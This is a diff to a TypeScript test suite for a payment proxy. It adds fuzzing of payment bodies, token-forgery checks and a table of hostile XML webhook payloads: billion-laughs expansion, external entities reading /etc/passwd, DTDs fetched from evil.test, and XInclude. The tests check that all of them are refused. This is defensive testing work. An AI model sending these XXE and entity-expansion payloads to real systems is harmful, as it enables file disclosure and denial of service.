@@ -1,4 +1,5 @@
 import { afterEach, beforeEach, describe, expect, it } from 'vitest'
+import { sized } from '../../packages/proxy/src/testing/whole.ts'
 import { airtelNumber, openHouse, type House } from './house.ts'
 
 let house: House
@@ -108,6 +109,44 @@ describe('a body', () => {
   })
 })
 
+it(
+  'with any one byte another, a body or a token buys at no other price (promise 29)',
+  async () => {
+    const body = JSON.stringify({ method: 'mobile_money', phone: '074 12 34 56', amount: 500 })
+    const others = ['1', '0', '"', ',', '\u0000'].slice(0, sized(1, 5))
+    let taken = 0
+    for (let at = 0; at < body.length; at++) {
+      for (const other of new Set([String.fromCharCode(body.charCodeAt(at) ^ 1), ...others])) {
+        const order = await house.openSession(500, `B-${at}-${other.charCodeAt(0)}`)
+        const reply = await house.raw('/v1/checkout/payments', {
+          method: 'POST',
+          headers: {
+            Authorization: `Bearer ${order.token}`,
+            'Content-Type': 'application/json',
+            'Idempotency-Key': 'attempt-1',
+          },
+          body: body.slice(0, at) + other + body.slice(at + 1),
+        })
+        if (reply.status === 202) taken++
+      }
+    }
+    await house.advance(2_000)
+    const amounts = house.simulator.ledger
+      .calls({ api: 'rest' })
+      .map(({ values }) => values['amount'])
+    expect(amounts).toHaveLength(taken)
+    expect(taken).toBeGreaterThan(0)
+    expect(new Set(amounts)).toEqual(new Set([500]))
+
+    for (let at = 0; at < token.length; at++) {
+      const forged = `${token.slice(0, at)}${token[at] === 'A' ? 'B' : 'A'}${token.slice(at + 1)}`
+      const { status } = await house.shopper(forged, '/v1/checkout')
+      expect([at, status]).toEqual([at, 401])
+    }
+  },
+  sized(15_000, 120_000),
+)
+
 it('two hundred ways to reach a prototype reach none, at any door (promise 39)', async () => {
   const names = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty']
   const shapes = [
@@ -178,7 +217,7 @@ describe('a card’s number', () => {
   it('may be what a shop calls its order, or PVIT its transaction (promise 43)', async () => {
     const order = await house.openSession(500, card.replaceAll(' ', ''))
     expect(order.token).not.toBe('undefined')
-    for (let index = 0; index < 100; index++) {
+    for (let index = 0; index < sized(100, 1_000); index++) {
       const reply = await house.raw(`/pvit/${house.hookToken}/callback`, {
         method: 'POST',
         headers: { 'Content-Type': 'application/json' },
@@ -192,6 +231,55 @@ describe('a card’s number', () => {
       expect(reply.status).toBe(200)
     }
   })
+})
+
+describe('XML', () => {
+  const laughs = (levels: number) =>
+    Array.from(
+      { length: levels },
+      (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`,
+    )
+  const hostile = {
+    'a billion laughs': `<!DOCTYPE r [<!ENTITY l0 "ha">${laughs(9).join('')}]><r><transactionId>&l9;</transactionId></r>`,
+    'an external entity':
+      '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><transactionId>&x;</transactionId></r>',
+    'an external entity on the net':
+      '<!DOCTYPE r [<!ENTITY x SYSTEM "https://evil.test/x">]><r><transactionId>&x;</transactionId></r>',
+    'an external DTD':
+      '<!DOCTYPE r SYSTEM "https://evil.test/x.dtd"><r><status>SUCCESS</status></r>',
+    'a parameter entity':
+      '<!DOCTYPE r [<!ENTITY % x SYSTEM "https://evil.test/x.dtd">%x;]><r><status>SUCCESS</status></r>',
+    'an inclusion':
+      '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></r>',
+    'a stylesheet': '<?xml-stylesheet href="https://evil.test/x.xsl"?><r><a><b/></a></r>',
+    'an attribute of a megabyte': `<r a="${'x'.repeat(1_000_000)}"/>`,
+    'ten thousand levels': '<a>'.repeat(2_000) + '</a>'.repeat(2_000),
+    'more than 64 fields': `<r>${Array.from({ length: 65 }, (_, n) => `<a${n}/>`).join('')}</r>`,
+    'a field twice': '<r><status>FAILED</status><status>SUCCESS</status></r>',
+    'an unknown entity': '<r><transactionId>&eacute;</transactionId></r>',
+    'an unclosed element': '<r><transactionId>PAY1</r>',
+  }
+
+  it.each(Object.entries(hostile))(
+    'made of %s is refused at PVIT’s doors, and nothing is fetched for it (promise 38)',
+    async (_, body) => {
+      const went: string[] = []
+      house.network.pvit = (request, pass) => {
+        went.push(request.url)
+        return pass(request)
+      }
+      for (const door of ['callback', 'secret']) {
+        const reply = await house.raw(`/pvit/${house.hookToken}/${door}`, {
+          method: 'POST',
+          headers: { 'Content-Type': 'application/xml' },
+          body,
+        })
+        expect([400, 413]).toContain(reply.status)
+      }
+      await house.advance(1_000)
+      expect(went).toEqual([])
+    },
+  )
 })
 
 describe('what is sent to be written into a header, an answer or a log', () => {
